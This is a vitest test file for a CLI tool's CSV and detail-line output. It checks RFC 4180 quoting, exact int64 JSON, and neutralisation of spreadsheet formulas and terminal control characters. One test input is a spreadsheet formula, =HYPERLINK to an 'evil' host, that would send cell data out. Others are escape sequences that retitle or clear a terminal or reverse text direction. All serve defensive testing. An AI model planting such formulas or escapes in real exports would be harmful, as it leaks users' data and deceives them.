import { describe, expect, it, test } from 'vitest';
import { type CsvColumn, renderCsv, renderDetails } from '../../src/output/formats';

/** The forms a result takes off the table: RFC 4180 CSV and "Label: value" lines (TSV, JSON: records and pets tests). */

interface Row {
  name: string;
  note?: string;
}
const columns: CsvColumn<Row>[] = [
  { header: 'name', value: (row) => row.name },
  { header: 'note', value: (row) => row.note },
];

// The header, RFC 4180 quoting, empty fields and numbers never guarded: pets.test.ts "csv"; no rows: records.test.ts.
describe('renderCsv', () => {
  test.each<[string, Row[], string]>([
    [
      'quotes LF, CR and CRLF and keeps them verbatim',
      [
        { name: 'two\nlines', note: 'a' },
        { name: 'carriage\rreturn', note: 'b' },
        { name: 'windows\r\nline', note: 'c' },
      ],
      'name,note\n"two\nlines",a\n"carriage\rreturn",b\n"windows\r\nline",c\n',
    ],
    ['does not quote what needs no quoting', [{ name: "O'Brien the dog", note: ' spaced ' }], "name,note\nO'Brien the dog, spaced \n"],
    [
      "a text cell a spreadsheet would take for a formula gets a leading ', then the usual quoting (OWASP)",
      ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=kept", 'a=b', ' =x'].map((name) => ({ name })),
      'name,note\n' +
        `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",\n'-2+3,\n'+1,\n'@SUM(1+1),\n'\t=1+1,\n"'\r=1+1",\n'=kept,\na=b,\n =x,\n`,
    ],
  ])('%s', (_title, rows, expected) => {
    expect(renderCsv(columns, rows)).toBe(expected);
  });

  test('on a terminal the guard comes first, so a CR shown as \\r still follows the quote', () => {
    expect(renderCsv(columns, [{ name: '\r=1+1' }], { tty: true })).toBe("name,note\n'\\r=1+1,\n");
  });
});

const fields = [
  { key: 'profile', label: 'Profile', text: 'prod (active)' },
  { key: 'note', label: 'Note', text: 'says "hi", twice' },
];
const object = { profile: 'prod', note: 'says "hi", twice', count: 9007199254740993n };
const url = [{ key: 'url', label: 'Base URL', text: 'https://x\u001b]0;T\u0007\n\u202e' }];

it.each([
  ['table', 'aligned "Label: value" lines', fields, 'Profile: prod (active)\nNote:    says "hi", twice\n'],
  ['json', 'json and ndjson print the object itself, int64 exact', fields, '{\n  "profile": "prod",\n  "note": "says \\"hi\\", twice",\n  "count": 9007199254740993\n}\n'],
  ['ndjson', 'json and ndjson print the object itself, int64 exact', fields, '{"profile":"prod","note":"says \\"hi\\", twice","count":9007199254740993}\n'],
  ['csv', 'keys as header, one RFC 4180-quoted row', fields, 'profile,note\nprod (active),"says ""hi"", twice"\n'],
  ['table', 'a "Label: value" line shows control and bidi characters as escapes', url, 'Base URL: https://x\\x1b]0;T\\x07\\n\\u202e\n'],
] as const)('renderDetails: %s: %s', (format, _title, rows, expected) => {
  expect(renderDetails(rows, object, format, false)).toBe(expected);
});

const hostile = { url: 'x\u009b2J\u202e' };
it.each([
  ['json', '{\n  "url": "x\\u009b2J\\u202e"\n}\n', `${JSON.stringify(hostile, null, 2)}\n`],
  ['ndjson', '{"url":"x\\u009b2J\\u202e"}\n', `${JSON.stringify(hostile)}\n`],
  ['csv', 'url\nx\\x9b2J\\u202e\n', `url\n${hostile.url}\n`],
] as const)('renderDetails: %s on a terminal shows C1 and bidi controls as escapes; piped, as they are', (format, shown, piped) => {
  const rows = [{ key: 'url', label: 'Base URL', text: hostile.url }];
  expect(renderDetails(rows, hostile, format, true)).toBe(shown);
  expect(renderDetails(rows, hostile, format, false)).toBe(piped);
});
